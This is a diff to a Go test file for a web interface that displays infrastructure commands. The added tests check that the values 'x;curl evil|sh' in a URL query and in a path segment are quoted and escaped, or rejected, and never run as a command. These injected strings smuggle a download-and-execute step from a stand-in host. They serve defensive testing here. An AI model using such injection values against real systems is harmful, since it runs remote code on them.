@@ -134,6 +134,13 @@ func TestWhatIsGoneSaysWhatBecameOfIt(t *testing.T) {
 			t.Errorf("%s: %d %s", path, code, body)
 		}
 	}
+	// What the address says is a word of the command, and no command.
+	if _, body := w.get("root", "/plan?run=x%3Bcurl%20evil%7Csh"); !strings.Contains(body, `--run &#39;x;curl evil|sh&#39;</pre>`) || strings.Contains(body, "--run x;") {
+		t.Error(body)
+	}
+	if code, body := w.send("root", w.request(http.MethodGet, "/stacks/a%3Bcurl%20evil%7Csh/x", "")); code != http.StatusNotFound || strings.Contains(body, "yuba list -n a;") {
+		t.Errorf("%d %s", code, body)
+	}
 	event := &corev1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: w.stack.Namespace, Name: "gone.1"}, Reason: "Deleted", Message: "somebody deleted it", LastTimestamp: metav1.Now(),
 		InvolvedObject: corev1.ObjectReference{Kind: "Terraform", Name: "old", Namespace: w.stack.Namespace}}
 	if err := apitest.Client(t).Create(t.Context(), event); err != nil {
